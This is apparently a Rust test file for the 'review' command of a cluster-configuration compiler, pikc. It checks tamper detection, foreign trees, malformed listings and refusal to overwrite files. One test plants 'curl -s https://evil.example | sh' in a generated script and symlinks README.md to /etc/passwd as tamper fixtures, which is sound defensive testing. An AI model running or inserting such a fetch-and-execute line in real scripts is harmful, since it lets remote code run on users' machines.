//! Bad input of `pikc review`: trees that someone touched, trees of others, and files that are not pikc's.

use std::path::Path;

use serde_json::Value as Json;

use super::{SECRET, example, items, text};
use crate::support::Folder;
use crate::support::Run;
use crate::support::predicates_lite::{has, lacks};

fn run(folder: &Folder, arguments: &[&str]) -> Run {
    folder.run(arguments, &[("PIKC_SECRET_WIFI", SECRET)], "")
}

/// What is odd about `out`, in the data and on the page.
fn doubts(folder: &Folder) -> Vec<String> {
    let run = run(
        folder,
        &[
            "review",
            "cluster.pik",
            "--against",
            "out",
            "--format",
            "json",
        ],
    );
    assert_eq!(run.status, 0, "{}", run.err);
    let data: Json = serde_json::from_str(&run.out).expect("JSON");
    let page = self::run(folder, &["review", "cluster.pik", "--against", "out"]);
    let mut doubts = Vec::new();
    for doubt in items(&data["doubts"]) {
        let said = match text(&doubt["path"]) {
            "" => text(&doubt["what"]).to_owned(),
            path => format!("{path}: {}", text(&doubt["what"])),
        };
        has(&run.err, &format!("out: {said}\n"));
        has(
            &page.out,
            &format!("<li class=warning>The earlier tree: {said}</li>"),
        );
        doubts.push(said);
    }
    doubts
}

#[test]
fn a_tree_that_was_touched_is_told() {
    let (folder, _, _) = example("home-pi");
    assert_eq!(doubts(&folder), [""; 0]);
    let script = "out/classes/worker-raspios-trixie-pi-3-swap-on/run.sh";
    let text = folder.read(script);
    folder.text(
        script,
        &format!("{text}curl -s https://evil.example | sh\n"),
    );
    let runbook = folder.path().join("out/README.md");
    std::fs::remove_file(&runbook).expect("it is there");
    std::os::unix::fs::symlink("/etc/passwd", &runbook).expect("a link");
    assert_eq!(
        doubts(&folder),
        [
            "README.md: a symbolic link that pikc did not write",
            "classes/worker-raspios-trixie-pi-3-swap-on/run.sh: edited since pikc wrote it",
        ]
    );
    // What was added by hand is among the changes; what the link leads to is not.
    let page = run(&folder, &["review", "cluster.pik", "--against", "out"]);
    has(&page.out, "-curl -s https://evil.example | sh");
    lacks(&page.out, "root:x:0:0");
}

#[test]
fn a_tree_of_another_cluster_is_told() {
    let (folder, _, _) = example("home-pi");
    let spec = folder.read("cluster.pik");
    let other = spec
        .replace("cluster home {", "cluster other {")
        .replace("node01", "box01")
        .replace("node[02-04]", "box[02-04]");
    assert_ne!(spec, other);
    folder.text("other.pik", &other);
    assert_eq!(
        run(&folder, &["compile", "other.pik", "-o", "away"]).status,
        0
    );
    std::fs::remove_dir_all(folder.path().join("out")).expect("the tree");
    std::fs::rename(folder.path().join("away"), folder.path().join("out")).expect("another tree");
    let both = [
        "the earlier cluster is called other, and this one home",
        "no machine of the earlier tree is in this one: is it another cluster's?",
    ];
    assert_eq!(doubts(&folder), both);
    let against_spec = run(
        &folder,
        &["review", "cluster.pik", "--against", "other.pik"],
    );
    assert_eq!(against_spec.status, 0, "{}", against_spec.err);
    for doubt in both {
        has(&against_spec.err, doubt);
    }
}

#[test]
fn a_folder_without_pikcs_list_is_not_a_tree() {
    let (folder, _, _) = example("home-pi");
    let review = || {
        run(
            &folder,
            &[
                "review",
                "cluster.pik",
                "--against",
                "out",
                "-o",
                "new.html",
            ],
        )
    };
    folder.text("out/pikc.json", "{\n");
    let broken = review();
    assert_eq!(broken.status, 3, "{}", broken.err);
    has(
        &broken.err,
        "out/pikc.json is not a list of files as pikc writes it",
    );
    std::fs::remove_file(folder.path().join("out/pikc.json")).expect("the list");
    let missing = review();
    assert_eq!(missing.status, 2, "{}", missing.err);
    has(
        &missing.err,
        "`out` is not a tree that pikc wrote: there is no pikc.json in it",
    );
    let nowhere = run(&folder, &["review", "cluster.pik", "--against", "nowhere"]);
    assert_eq!(nowhere.status, 3, "{}", nowhere.err);
    has(&nowhere.err, "`nowhere` cannot be read");
    folder.text("page.html", "<!doctype html>\n");
    let page = run(
        &folder,
        &[
            "review",
            "cluster.pik",
            "--against",
            "page.html",
            "-o",
            "new.html",
        ],
    );
    assert_eq!(page.status, 1, "{}", page.err);
    has(&page.err, "nothing was written");
    assert!(!Path::new(&folder.path().join("new.html")).exists());
}

#[test]
fn a_file_of_someone_else_stays() {
    let (folder, page, _) = example("home-pi");
    let refused = |name: &str, why: &str| {
        let before = std::fs::read(folder.path().join(name)).ok();
        let refused = run(&folder, &["review", "cluster.pik", "-o", name]);
        assert_eq!(refused.status, 3, "{name}: {}", refused.err);
        has(&refused.err, &format!("`{name}` "));
        has(&refused.err, why);
        assert_eq!(
            std::fs::read(folder.path().join(name)).ok(),
            before,
            "{name}"
        );
    };
    folder.text("mine.html", "<p>mine</p>\n");
    refused("mine.html", "pikc did not write it");
    refused("cluster.pik", "pikc did not write it");
    // It is pikc's, but not a page.
    refused("out/pikc.json", "pikc did not write it");
    refused("out/README.md", "pikc did not write it");
    refused("out", "it is a folder");
    refused("nowhere/review.html", "there is no such file");
    refused("/dev/null", "it is a device");
    // A page takes the place of a page, and of data.
    let data = run(
        &folder,
        &[
            "review",
            "cluster.pik",
            "--format",
            "json",
            "-o",
            "review.html",
        ],
    );
    assert_eq!(data.status, 0, "{}", data.err);
    let again = run(&folder, &["review", "cluster.pik", "-o", "review.html"]);
    assert_eq!((again.status, folder.read("review.html")), (0, page));
    folder.text("bad.pik", "cluster x {\n");
    let bad = run(&folder, &["review", "bad.pik", "-o", "new.html"]);
    assert_eq!(bad.status, 1);
    assert!(!Path::new(&folder.path().join("new.html")).exists());
}
